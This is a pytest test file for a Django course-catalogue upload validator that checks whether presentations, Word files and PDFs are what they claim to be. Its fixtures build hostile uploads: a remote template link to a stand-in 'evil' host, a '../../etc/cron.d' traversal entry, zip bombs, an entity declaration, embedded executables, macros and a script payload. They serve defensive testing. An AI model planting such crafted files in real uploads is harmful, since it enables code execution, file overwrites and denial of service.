"""Course files are judged by their content."""

import zipfile
from io import BytesIO

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from hypothesis import given
from hypothesis import strategies as st

from courses.catalogue.models import CourseDocument
from courses.catalogue.rules.files import OLD_OFFICE, Problem, problem_of
from tests.factories.catalogue import docx_bytes, pptx_bytes

PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"


def judge(name, content):
    return problem_of(BytesIO(content), name, len(content))


def rezipped(content, *, add=None, change=None, drop=()):
    """The archive with parts added, changed (bytes -> bytes) or left out."""
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            if entry.filename not in drop:
                data = old.read(entry)
                new.writestr(entry.filename, (change or {}).get(entry.filename, lambda same: same)(data))
        for name, data in (add or {}).items():
            new.writestr(name, data)
    return out.getvalue()


def bomb():
    return rezipped(pptx_bytes(), add={"ppt/media/image9.bin": b"\0" * (60 * 1024 * 1024)})


def flagged_as_encrypted():
    content = bytearray(pptx_bytes())
    start = content.index(b"PK\x01\x02")
    content[start + 8] |= 1
    return bytes(content)


TYPES = "[Content_Types].xml"
MACRO_TYPE = {TYPES: lambda xml: xml.replace(b"presentationml.presentation.main+xml", b"presentation.macroEnabled.main+xml")}
ENTITY = {"ppt/presentation.xml": lambda xml: b'<?xml version="1.0"?><!DOCTYPE p [<!ENTITY a "b">]>' + xml.split(b"?>", 1)[1]}
REMOTE = b'<Relationships><Relationship Id="rId1" Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/></Relationships>'


@pytest.mark.parametrize("name", ["课件.pptx", "课件.PPTX"])
def test_a_real_presentation_passes(name):
    assert judge(name, pptx_bytes()) is None


def test_a_real_word_file_and_a_pdf_pass():
    assert judge("讲义.docx", docx_bytes()) is None
    assert judge("讲义.pdf", PDF) is None


@pytest.mark.parametrize(
    ("name", "make", "problem"),
    [
        ("空.pptx", lambda: b"", Problem.EMPTY),
        ("程序.pptx", lambda: b"MZ\x90\x00" + b"\0" * 500, Problem.MISMATCH),
        ("程序.exe", lambda: b"MZ\x90\x00" + b"\0" * 500, Problem.KIND),
        ("没有结尾", pptx_bytes, Problem.KIND),
        ("讲义.docx", pptx_bytes, Problem.MISMATCH),
        ("课件.pptx", docx_bytes, Problem.MISMATCH),
        ("网页.pdf", lambda: b"<html><script>alert(1)</script></html>", Problem.MISMATCH),
        ("断了.pdf", lambda: PDF[:20], Problem.BROKEN),
        ("锁了.pdf", lambda: PDF.replace(b"trailer\n<<", b"trailer\n<</Encrypt 5 0 R"), Problem.LOCKED),
        ("旧的.pptx", lambda: OLD_OFFICE + b"\0" * 500, Problem.LOCKED),
        ("锁了.pptx", flagged_as_encrypted, Problem.LOCKED),
        ("断了.pptx", lambda: pptx_bytes()[:2000], Problem.BROKEN),
        ("宏.pptx", lambda: rezipped(pptx_bytes(), add={"ppt/vbaProject.bin": b"x"}), Problem.MACROS),
        ("宏.pptx", lambda: rezipped(pptx_bytes(), change=MACRO_TYPE), Problem.MACROS),
        ("控件.pptx", lambda: rezipped(pptx_bytes(), add={"ppt/activeX/activeX1.xml": b"x"}), Problem.MACROS),
        ("夹带.pptx", lambda: rezipped(pptx_bytes(), add={"ppt/embeddings/setup.exe": b"MZ"}), Problem.MACROS),
        ("模板.docx", lambda: rezipped(docx_bytes(), add={"word/_rels/settings.xml.rels": REMOTE}, drop=["word/_rels/settings.xml.rels"]), Problem.MACROS),
        ("炸弹.pptx", bomb, Problem.BOMB),
        ("多.pptx", lambda: rezipped(pptx_bytes(), add={f"ppt/media/{i}": b"" for i in range(5001)}), Problem.BOMB),
        ("爬.pptx", lambda: rezipped(pptx_bytes(), add={"../../etc/cron.d/x": b"x"}), Problem.BROKEN),
        ("缺.pptx", lambda: rezipped(pptx_bytes(), drop=["ppt/presentation.xml"]), Problem.MISMATCH),
        ("实体.pptx", lambda: rezipped(pptx_bytes(), change=ENTITY), Problem.BROKEN),
        ("普通.docx", lambda: rezipped(docx_bytes(), drop=[TYPES]), Problem.MISMATCH),
    ],
)
def test_a_bad_file_is_refused_with_its_reason(name, make, problem):
    assert judge(name, make()) == problem


def test_a_file_above_fifty_megabytes_is_refused_unread():
    assert problem_of(BytesIO(b""), "大.pptx", 50 * 1024 * 1024 + 1) == Problem.TOO_BIG


@given(st.binary(min_size=1, max_size=400), st.sampled_from(["a.pptx", "a.docx", "a.pdf", "a.zip"]), st.booleans())
def test_garbage_is_refused_and_never_an_error(garbage, name, as_zip):
    assert judge(name, (b"PK\x03\x04" if as_zip else b"") + garbage) is not None


@given(st.integers(0, 5000), st.integers(0, 255))
def test_a_damaged_presentation_is_judged_and_never_an_error(place, value):
    content = bytearray(pptx_bytes())
    content[place] = value
    judge("a.pptx", bytes(content))


@pytest.mark.django_db
def test_the_model_refuses_in_words_and_leaves_the_upload_readable():
    bad = CourseDocument(title="程序", file=ContentFile(b"MZ" * 300, name="程序.pptx"))
    with pytest.raises(ValidationError) as refused:
        bad.full_clean()
    assert refused.value.error_dict["file"][0].code == "mismatch"
    good = CourseDocument(title="课件", file=ContentFile(pptx_bytes(), name="课件.pptx"))
    good.full_clean(exclude=["collection"])
    good.save()
    assert good.file.read() == pptx_bytes()
